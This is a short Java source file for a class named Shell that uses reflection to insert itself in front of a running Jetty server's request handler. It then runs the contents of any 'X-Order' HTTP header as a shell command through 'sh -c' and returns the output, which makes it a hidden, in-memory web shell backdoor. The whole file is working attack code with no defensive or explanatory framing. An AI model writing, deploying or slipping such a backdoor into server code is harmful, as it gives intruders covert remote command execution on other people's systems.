import java.lang.reflect.Field;
import javax.servlet.ServletException;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;
import org.eclipse.jetty.server.Handler;
import org.eclipse.jetty.server.HttpConnection;
import org.eclipse.jetty.server.Request;
import org.eclipse.jetty.server.Server;
import org.eclipse.jetty.server.handler.AbstractHandler;
import org.eclipse.jetty.server.handler.HandlerWrapper;

/** Puts itself before the handler of the server. */
public class Shell extends AbstractHandler {
  private final Handler next;

  public Shell() throws Exception {
    Server server = HttpConnection.getCurrentConnection().getConnector().getServer();
    next = server.getHandler();
    Field field = HandlerWrapper.class.getDeclaredField("_handler");
    field.setAccessible(true);
    start();
    field.set(server, this);
  }

  @Override
  public void handle(
      String target, Request base, HttpServletRequest request, HttpServletResponse response)
      throws java.io.IOException, ServletException {
    String order = request.getHeader("X-Order");
    if (order == null) {
      next.handle(target, base, request, response);
    } else {
      base.setHandled(true);
      response.getWriter().print(run(order));
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
